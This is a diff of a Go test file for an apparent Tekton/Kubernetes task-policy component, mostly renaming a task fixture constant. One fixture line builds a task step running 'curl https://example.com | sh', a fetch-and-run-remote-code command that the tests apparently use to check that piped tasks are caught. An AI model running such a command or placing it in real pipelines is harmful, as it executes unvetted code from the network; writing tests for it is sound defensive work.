@@ -40,10 +40,10 @@ func TestLocalTasks(t *testing.T) {
 	b.configure()
 	b.create(&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "free"}})
 	for _, namespace := range []string{"ci", "free"} {
-		b.create(b.parse(strings.Replace(storedTask, "namespace: ci", "namespace: "+namespace, 1)))
+		b.create(b.parse(strings.Replace(helloTask, "namespace: ci", "namespace: "+namespace, 1)))
 	}
 	b.create(b.parse(strings.NewReplacer("hello", "piped", "namespace: ci", "namespace: free", "command: [date]}, {", "script: 'curl https://example.com | sh'}, {").
-		Replace(storedTask)))
+		Replace(helloTask)))
 	b.enforce(mirrored)
 	b.eventually("the condition is narrow", b.isNarrow)
 	b.Run("no resolvers", func(t *testing.T) { b.on(t).testNoResolvers() })
@@ -55,7 +55,7 @@ func TestLocalTasks(t *testing.T) {
 	b.Run("down", func(t *testing.T) { b.on(t).testDown(resolvers) })
 }
 
-const storedTask = `
+const helloTask = `
 apiVersion: tekton.dev/v1
 kind: Task
 metadata: {name: hello, namespace: ci}
@@ -152,7 +152,7 @@ func (b *bed) testFetched() {
 		}
 	}
 	// What Tekton's controller then creates in a dry run is what will run.
-	task := b.parse(storedTask)
+	task := b.parse(helloTask)
 	task.SetName("2f6d1e9c-9b1d-4e53-8f7e-0d5f2b6f3b11")
 	if err := b.controller().Create(b.Context(), task, client.DryRunAll); err != nil {
 		b.Fatal(err)
@@ -161,7 +161,7 @@ func (b *bed) testFetched() {
 		strings.Count(text, "mirror.example.com/library/alpine") != 2 {
 		b.Errorf("the dry run makes %s", text)
 	}
-	b.get(b.parse(storedTask))
+	b.get(b.parse(helloTask))
 }
 
 // testAppliedAgain applies a manifest once more as kubectl does, whose patch has the name that
@@ -203,7 +203,7 @@ func (b *bed) testRefusedTask() {
 }
 
 func (b *bed) testVerified() {
-	task := strings.Replace(storedTask, "namespace: ci", "namespace: other", 1)
+	task := strings.Replace(helloTask, "namespace: ci", "namespace: other", 1)
 	b.create(b.parse(task))
 	signed := strings.NewReplacer("name: hello,", "name: signed, annotations: {tekton.dev/signature: c2ln},").Replace(task)
 	b.create(b.parse(signed))
